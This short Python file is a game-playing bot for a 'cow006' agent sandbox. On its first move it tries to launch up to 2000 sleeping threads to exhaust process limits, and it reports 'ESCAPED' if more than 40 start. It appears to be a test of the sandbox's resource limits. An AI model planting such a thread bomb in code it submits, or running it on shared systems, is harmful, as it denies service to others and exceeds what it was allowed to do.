"""Attack: a thread bomb (threads count against RLIMIT_NPROC too)."""

import sys
import threading
import time

from cow006 import Agent


class Bot(Agent):
    def play(self, view):
        if (view.round, view.turn) == (0, 0):  # the first move
            print("ATTACK thread_bomb", file=sys.stderr, flush=True)
            made = 0
            for _ in range(2000):
                try:
                    threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
                except RuntimeError:
                    break
                made += 1
            print(f"thread_bomb: {made} threads", file=sys.stderr, flush=True)
            if made > 40:
                print(f"ESCAPED: started {made} threads", file=sys.stderr, flush=True)
        return min(view.hand)
